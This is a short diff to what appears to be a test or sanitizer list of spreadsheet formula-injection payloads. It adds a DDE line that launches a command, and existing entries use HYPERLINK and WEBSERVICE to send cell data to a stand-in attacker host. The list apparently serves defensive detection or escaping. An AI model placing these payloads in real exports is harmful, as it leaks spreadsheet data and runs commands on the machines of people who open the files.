@@ -20,6 +20,7 @@ const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"here")',
   '=WEBSERVICE("http://evil.example/")',
   '-2+3+cmd',
+  "+1 *cmd|' /C calc'!A0",
 ];
 /** Texts that begin a field in some dialect, or may come before its text. */
 const BEGINNINGS = [
